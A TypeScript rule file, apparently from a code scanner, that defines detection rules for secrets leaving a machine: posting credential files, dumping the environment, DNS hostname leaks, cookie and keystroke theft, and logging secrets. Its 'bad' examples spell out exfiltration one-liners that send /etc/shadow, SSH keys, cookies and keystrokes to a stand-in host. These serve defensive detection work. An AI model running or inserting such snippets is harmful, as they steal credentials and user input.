import type { Effect } from '../effect.ts'
import { origin, type Value } from '../model.ts'
import type { Rule } from '../rule.ts'
import { comesFrom, sketch, startOf } from '../values.ts'
import { code, everything, everywhere, isFixed, names, says, scripts } from './ask.ts'
import { host } from './where.ts'

const sends = (effect: Effect): boolean =>
  effect.payload !== undefined || /\.(post|put|patch|sendto|sendmail|send)$/i.test(effect.call?.name ?? '')

/** A variable, or a text with one in it, whose name says that it holds a secret. */
function isTelling(value: Value): boolean {
  if (value.kind === 'joined') return value.parts.some(part => typeof part !== 'string' && isTelling(part))
  return (
    value.kind === 'thing' &&
    /(^|[._])(passw(or)?d|passwd|secret|api_?key|private_?key|ssn|credit_?card|card_?number)$/i.test(value.name)
  )
}

/** The whole environment, alone or in a text. */
function isEnvironment(value: Value): boolean {
  if (value.kind === 'joined') return value.parts.some(part => typeof part !== 'string' && isEnvironment(part))
  return value.kind === 'thing' && /^(os\.environb?|process\.env|os\.environ\.(copy|items)\(\))$/.test(value.name)
}

/** Rules about what leaves the machine or is shown. */
export const leakRules: readonly Rule[] = [
  {
    id: 'network/secret-leaves',
    languages: everywhere,
    type: 'exfiltration',
    severity: 'critical',
    cwe: 'CWE-200',
    description: 'Sends the content of a secret over the network.',
    recommendation: 'Do not send secrets; grant access to the one who needs it.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => comesFrom(effect.payload, origin.secret) || comesFrom(effect.target, origin.secret),
    },
    examples: {
      bad: [
        "import requests\nrequests.post('https://x.org', data=open('/etc/shadow').read())",
        {
          language: 'javascript',
          code: "const k = require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'); fetch('https://x.org', { method: 'POST', body: k })",
        },
      ],
      good: ["import requests\nrequests.post('https://x.org', data=open('report.csv').read())"],
    },
  },
  {
    id: 'network/data-leaves',
    languages: everywhere,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-201',
    description: 'Sends data out.',
    recommendation: 'Check what is sent and to whom.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => {
        const { payload } = effect
        // A name that nobody has is asked for to tell its owner what it says.
        if (
          /^(dns|socket)\b/.test(effect.call?.name ?? '') &&
          effect.target.kind === 'joined' &&
          comesFrom(effect.target, origin.file | origin.system)
        )
          return {
            severity: 'high',
            message: 'Puts facts about this machine or its files into a name that it asks for.',
          }
        if (comesFrom(effect.target, origin.file | origin.system | origin.environment) && host(effect) !== '')
          return { severity: 'high', message: 'Puts facts about this machine or its files into an address.' }
        if (comesFrom(payload, origin.environment | origin.system))
          return { severity: 'high', message: 'Sends facts about this machine out.' }
        if (comesFrom(payload, origin.file)) return { severity: 'high', message: 'Sends the content of files out.' }
        if (!sends(effect)) return false
        // A page that speaks to the server it came from.
        return /^\/(?!\/)/.test(startOf(effect.target)) ? { severity: 'low' } : true
      },
    },
    examples: {
      bad: [
        "import requests\nrequests.post('https://x.org', json={'a': 1})",
        "import requests, os\nrequests.post('https://x.org', json=dict(os.environ))",
        "from google.cloud import storage\nstorage.Client().bucket('b').blob('x').upload_from_filename('report.csv')",
        { language: 'javascript', code: "require('dns').lookup(require('os').hostname() + '.x.org', f)" },
        {
          language: 'javascript',
          code: "fetch('https://x.org/?h=' + encodeURIComponent(require('os').hostname()))",
        },
      ],
      good: [
        "import requests\nrequests.get('https://x.org')",
        { language: 'javascript', code: "fetch('/api/items', { method: 'POST', body: JSON.stringify(item) })" },
      ],
    },
  },
  {
    id: 'network/page-leaves',
    languages: scripts,
    type: 'exfiltration',
    severity: 'high',
    cwe: 'CWE-359',
    description:
      'Sends what a visitor types, or their cookies, to another host inside the address of an image or a request.',
    recommendation: 'Remove it.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'assignment',
      about: target => /(^|\.)(src|href|action)$/.test(target),
      when: ({ target, value, how }) =>
        // A form of this page that is made to send what people type to another site.
        (how === 'assign' && /\.action$/.test(target) && says(value, /^(https?:)?\/\//)) ||
        (how === 'assign' &&
          value.kind === 'joined' &&
          says(value, /^(https?:)?\/\//) &&
          (comesFrom(value, origin.secret) ||
            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/)))),
    },
    examples: {
      bad: [
        "new Image().src = 'https://x.org/?' + document.cookie",
        "document.forms[0].action = 'https://x.org/login'",
        "addEventListener('keydown', e => { image.src = 'https://x.org/?' + e.key })",
      ],
      good: ["image.src = 'https://x.org/' + name + '.png'", "link.href = '/items/' + e.target.value"],
    },
  },
  {
    id: 'network/typed-leaves',
    languages: scripts,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-359',
    description: 'Sends what is typed into a password field to another host.',
    recommendation: 'Let the form of the page send it, to the page it belongs to.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: ({ target, payload }, { program }) =>
        [target, payload].some(
          value =>
            value?.kind === 'joined' &&
            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|target\.value|value)$/)),
        )
          ? /type=["']?password|keydown|keypress|keyup/.test(program.source)
          : // Keys that are kept first and sent to another host later.
            /(keydown|keypress|keyup)\b[^\n]*\.(push|key\b|which|keyCode)/.test(program.source) &&
            says(target, /^(https?:)?\/\//) &&
            (target.kind === 'joined' || payload !== undefined || says(target, /\?/)),
    },
    examples: {
      bad: [
        "document.querySelector('input[type=password]').onchange = e => fetch('https://x.org/?p=' + e.target.value)",
        "const all = []; document.onkeypress = e => all.push(e.key); setInterval(() => fetch('https://x.org/?' + all.join('')), 9)",
      ],
      good: ["search.onchange = e => fetch('/search?q=' + e.target.value)"],
    },
  },
  {
    id: 'network/secret-printed',
    languages: code,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-532',
    description: 'Prints or logs a secret.',
    recommendation: 'Keep secrets out of output and logs.',
    implies: ['secrets'],
    match: {
      on: 'call',
      names: [
        'print',
        'console.log',
        'console.info',
        'console.error',
        'console.debug',
        'logging.info',
        'logging.debug',
        'logging.warning',
        'logging.error',
        'logger.info',
        'logger.debug',
        '*.info',
        '*.debug',
        'sys.stdout.write',
        'process.stdout.write',
      ],
      when: call => {
        if (everything(call).some(value => comesFrom(value, origin.secret) && !isFixed(value))) return true
        // A variable that is called a password is one; printing it is what password exercises do, logging it is not.
        return (
          /^(logging|logger|log|console\.(info|error|debug))\b|\.(info|debug)$/.test(call.name) &&
          call.args.some(isTelling)
        )
      },
    },
    examples: {
      bad: [
        "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])",
        { language: 'javascript', code: 'console.log(process.env.API_KEY)' },
      ],
      good: ["import os\nprint(os.environ['LANG'])"],
    },
  },
  {
    id: 'network/environment-dumped',
    languages: code,
    type: 'secret',
    severity: 'high',
    cwe: 'CWE-526',
    description: 'Takes the whole environment, where credentials are passed to programs.',
    recommendation: 'Read the one variable that is needed.',
    implies: ['secrets'],
    match: {
      on: 'call',
      names: [
        'print',
        'dict',
        'str',
        'list',
        'json.dumps',
        'json.dump',
        'pprint.pprint',
        'os.environ.items',
        'os.environ.copy',
        'os.environ.values',
        'console.log',
        'JSON.stringify',
        'Deno.env.toObject',
        'Object.entries',
        'Object.keys',
        'Object.values',
        'Object.assign',
        'repr',
        'sorted',
        'os.environ.keys',
      ],
      when: call => {
        if (call.name === 'os.environ.copy') return { severity: 'low' }
        if (call.name.startsWith('os.environ.') || call.name === 'Deno.env.toObject') return true
        return call.args.some(isEnvironment)
      },
    },
    examples: {
      bad: [
        'import os\nprint(os.environ)',
        "import os\nprint(f'all: {os.environ}')",
        { language: 'javascript', code: 'console.log(JSON.stringify(process.env))' },
      ],
      good: ["import os\nprint(os.environ.get('HOME'))"],
    },
  },
  {
    id: 'network/environment-walked',
    languages: code,
    type: 'secret',
    severity: 'medium',
    cwe: 'CWE-526',
    description: 'Looks at all variables of the environment, where credentials are passed to programs.',
    recommendation: 'Read the one variable that is needed.',
    implies: ['secrets'],
    match: { on: 'mark', kinds: ['walked-environment'] },
    examples: {
      bad: [
        'import os\nfor name in os.environ:\n    print(name)',
        { language: 'javascript', code: 'for (const k in process.env) if (/KEY/.test(k)) found.push(process.env[k])' },
      ],
      good: ["import os\nfor name in ['HOME']:\n    print(os.environ[name])"],
    },
  },
  {
    id: 'network/secret-variable',
    languages: code,
    type: 'secret',
    severity: 'medium',
    cwe: 'CWE-526',
    description: 'Reads a credential from the environment.',
    recommendation: 'Sandboxes get no secrets; grant access another way.',
    implies: ['secrets'],
    match: {
      on: 'program',
      find: ({ program }) =>
        program.assignments
          .filter(
            ({ value, how }) =>
              how === 'assign' &&
              comesFrom(value, origin.secret) &&
              comesFrom(value, origin.environment) &&
              sketch(value) === null,
          )
          .slice(0, 3)
          .map(({ start, end }) => ({ at: { start, end } })),
    },
    examples: {
      bad: ["import os\nkey = os.environ['AWS_SECRET_ACCESS_KEY']"],
      good: ["import os\nlang = os.environ['LANG']"],
    },
  },
]
